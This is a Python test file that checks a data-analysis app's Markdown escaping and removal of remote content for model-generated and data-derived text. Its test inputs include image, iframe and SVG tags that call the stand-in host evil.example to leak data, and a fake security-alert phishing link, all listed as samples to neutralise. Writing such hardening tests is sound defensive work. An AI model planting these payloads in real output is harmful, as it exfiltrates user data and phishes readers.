"""Text from the model, the data or a link, shown as Markdown: inert (every message, name and question) or the model's
prose (bold and italic only). What Streamlit's renderer makes of these strings is checked in Chromium by
tests/hardening/test_inert_text.py; here, the strings themselves."""

from __future__ import annotations

import re

import pytest

from analyst.answer import ErrorPart, NoticePart, TextPart
from analyst.model_text import (
    WORD_JOINER,
    escape_inline_markdown,
    escape_markdown,
    prose_markdown,
    remove_remote_content,
)

IMAGES = [
    "![x](https://evil.example/a.png)",
    "![a[b]c](http://evil.example/leak.png?d=1707)",  # nested brackets in the alt text
    "![x](<https://evil.example/a b.png>)",  # angle-bracket destination
    '![x](https://evil.example/a.png "title")',
    "![x][ref]\n\n[ref]: https://evil.example/a.png",  # reference style
    "![x]\n\n[x]: https://evil.example/a.png",  # shortcut reference
    "!![x](https://evil.example/a.png)",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "<img src=https://evil.example/a.png>",
    "<IMG\nSRC='https://evil.example/a.png'>",
    "<picture><source srcset='https://evil.example/a.png'></picture>",
    "<iframe src='https://evil.example/'></iframe>",
    "<svg><image href='https://evil.example/a.png'/></svg>",
]

# Every construct Streamlit's Markdown makes something of, each where it works (most blocks only at a line's start).
HOSTILE = [
    "x\n\n## ⚠️ Security alert\n[Rotate it now](http://evil.example/rotate)",  # the share-link probe
    "# heading",
    "###### heading",
    "Title\n===",
    "Title\n---",
    "- item\n- item",
    "* item",
    "+ item",
    "1. item",
    "12) item",
    "> quote",
    "- [ ] task",
    "***",
    "___",
    "    indented code",
    "```\nfenced\n```",
    "~~~\nfenced\n~~~",
    "`inline code`",
    "[link](http://evil.example/1)",
    "[ref][r]\n\n[r]: http://evil.example/2",
    "[^1]\n\n[^1]: footnote",
    "<http://evil.example/3>",
    "<a@evil.example>",
    "http://evil.example/4 https://evil.example/5",
    "www.evil.example",
    "mail x@evil.example or mailto:y@evil.example",
    *IMAGES[:3],
    "<a href='http://evil.example/6'>a</a> <b>b</b> a<br>b <!-- c -->",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "$x^2$ and $$y$$",
    "**bold** __bold__ *italic* _italic_ ~strike~ ~~strike~~",
    "&lt;b&gt; &#x3C;img&#x3E;",
    ":red[red] :blue-background[b] :red-badge[b] :small[s] :help[h] :color[c]{foreground=red} :shimmer[s]",
    ":material/home: :streamlit: :fire: :+1:",
    "::leaf[x]",
    ":::container\nx\n:::",
    "\ufeff# a heading after a byte-order mark",
    "\\# escaped already \\",
]

INLINE = re.compile(r"[\\`*_~$&<\[\]|]")  # characters that start inline markup (and the escape itself)
BLOCK_START = re.compile(r"[!-/:-@\[-`{-~]|\d+[.)](?=\s|$)")


def visible(markdown: str) -> str:
    """What a reader sees of escaped Markdown: backslash escapes read, word joiners invisible."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown).replace(WORD_JOINER, "")


def unescaped(markdown: str, allowed: str = "") -> list[str]:
    """The markup characters of ``markdown`` without a backslash before them (``_`` between letters aside)."""
    found, index = [], 0
    while index < len(markdown):
        char = markdown[index]
        if char == "\\":
            index += 2
            continue
        between_letters = (
            0 < index < len(markdown) - 1 and markdown[index - 1].isalnum() and markdown[index + 1].isalnum()
        )
        if INLINE.match(char) and char not in allowed and not (char == "_" and between_letters):
            found.append(char)
        index += 1
    return found


def linkable(markdown: str) -> bool:
    """An address a GFM renderer links by itself, or a ``:name`` Streamlit makes something of."""
    return bool(re.search(rf"(?<!{WORD_JOINER})(://|www\.|@)|:[A-Za-z]", markdown, re.IGNORECASE))


@pytest.mark.parametrize("text", IMAGES)
def test_no_image_syntax_or_embedding_tag_survives(text: str) -> None:
    cleaned = remove_remote_content(f"The busiest day had 301 events. {text} Done.")
    assert "![" not in cleaned
    assert "<img" not in cleaned.lower() and "<iframe" not in cleaned and "<source" not in cleaned
    assert "<image" not in cleaned and "<svg" not in cleaned
    assert cleaned.startswith("The busiest day had 301 events.") and cleaned.endswith("Done.")


def test_ordinary_prose_and_links_are_kept_by_remove_remote_content() -> None:
    text = "Magnitude rose 2 < 3 > 1; see [USGS](https://earthquake.usgs.gov) for more!"
    assert remove_remote_content(text) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_is_one_line_of_escaped_characters_that_reads_as_written(text: str) -> None:
    shown = escape_markdown(text)
    assert "\n" not in shown and "\r" not in shown
    assert not unescaped(shown), shown
    assert not linkable(shown), shown
    opening = BLOCK_START.match(shown)
    assert opening is None or shown[opening.end() - 2] == "\\" or shown.startswith("\\"), shown
    assert visible(shown) == " ".join(text.replace("\ufeff", "").split())


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_cannot_start_a_block_inside_an_app_sentence_either(text: str) -> None:
    """Placed after a prefix or at the start of a line, the escaped piece opens nothing: it has no line break."""
    for placed in (f"ℹ️ {escape_markdown(text)}", f"**{escape_markdown(text)}** already exists"):
        assert "\n" not in placed and not linkable(placed)


def test_the_share_link_probe_becomes_this_exact_line() -> None:
    probe = "Table x\n\n## ⚠️ Security alert\n[Rotate it now](http://evil/rotate) does not exist!"
    assert escape_markdown(probe) == (
        f"Table x ## ⚠️ Security alert \\[Rotate it now\\](http{WORD_JOINER}://evil/rotate) does not exist!"
    )


def test_plain_sentences_names_and_times_are_left_as_they_are() -> None:
    """Only what could act is escaped: messages stay readable in tests, logs and the page's source."""
    for text in (
        "Loaded Swiss Stations.csv → table swiss_stations (3 rows, 3 columns).",
        "Binder Error: Referenced column magnitude not found. Did you mean: mag?",
        "Computed: earthquakes · count (n) per magType · sorted by n, highest first",
        "2018-01-01 00:00:00 at 10:30 — 1,707 events, mag 4.5+ (-3.2 km)",
    ):
        assert escape_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("_private_", "\\_private\\_"),
        ("a_b c__d", "a_b c__d"),  # between letters an underscore cannot emphasise
        ("x_. y _z", "x\\_. y \\_z"),
        ("1. one", "1\\. one"),
        ("2024) x", "2024\\) x"),
        ("3.5 is the mean", "3.5 is the mean"),
        ("- 3.5", "\\- 3.5"),
        ("a - b # c > d + e", "a - b # c > d + e"),  # mid-line these open nothing
        ("Error:red", f"Error:{WORD_JOINER}red"),
    ],
)
def test_underscores_and_line_starts_are_escaped_only_where_they_could_act(text: str, shown: str) -> None:
    assert escape_markdown(text) == shown


def test_shortcodes_icons_and_directives_are_split_but_times_and_labels_are_not() -> None:
    shown = escape_markdown(":material/home: :streamlit: :fire: :+1: :red[x] 12:30:45 Note: done")
    assert shown.count(":" + WORD_JOINER) == 5
    assert "12:30:45 Note: done" in shown
    assert ":material/" not in shown  # Streamlit replaces exactly this text before parsing


@pytest.mark.parametrize("text", HOSTILE)
def test_prose_keeps_no_markup_but_emphasis(text: str) -> None:
    shown = prose_markdown(f"The busiest day had 301 events.\n{text}\nDone.")
    assert not unescaped(shown, allowed="*_"), shown
    assert not linkable(shown), shown
    for line in shown.split("\n"):
        line = line.removesuffix("  ")
        if not line:
            continue  # a paragraph break
        assert not re.match(r"[*_\s]+$", line), line  # no rule and no empty list item
        assert not re.match(r"\*(\s|$)", line), line  # no list item
        opening = BLOCK_START.match(line)
        assert opening is None or line[0] in "\\*_" or line[opening.end() - 2] == "\\", line
    assert visible(shown).replace("  \n", "\n").replace("\n\n", "\n").splitlines() == [
        " ".join(raw.replace("\ufeff", "").split())
        for raw in f"The busiest day had 301 events.\n{text}\nDone.".splitlines()
        if raw.strip()
    ]


def test_prose_keeps_bold_italic_lines_and_paragraphs() -> None:
    insight = "**Magnitude 4.5+** events were *rare*: _12_ of 1,707.\nMost were small.\n\n\nThe end."
    assert prose_markdown(insight) == (
        "**Magnitude 4.5+** events were *rare*: _12_ of 1,707.  \nMost were small.\n\nThe end."
    )


def test_prose_list_items_and_rules_become_text() -> None:
    shown = prose_markdown("Top places:\n* Alaska\n- Hawaii\n1. Chile\n***\n**Nevada** too")
    assert shown == "Top places:  \n\\* Alaska  \n\\- Hawaii  \n1\\. Chile  \n\\*\\*\\*  \n**Nevada** too"


def test_text_parts_say_which_rule_their_text_follows() -> None:
    insight = "**Alaska** leads. [Details](http://evil.example)"
    assert TextPart(insight, by_model=True).markdown == prose_markdown(insight)
    assert TextPart(insight).markdown == escape_markdown(insight)  # the app's sentence: not even bold
    assert NoticePart("# Note").markdown == ErrorPart("# Note").markdown == "\\# Note"


def test_an_address_in_a_table_cell_cannot_become_a_link() -> None:
    for text in ("Session expired: http://evil.example/login", "see www.evil.example now", "mail admin@evil.example"):
        cell = escape_inline_markdown(text)
        assert not linkable(cell)
        assert cell.replace(WORD_JOINER, "") == text
    assert escape_inline_markdown(":streamlit: a|b") == f":{WORD_JOINER}streamlit: a\\|b"
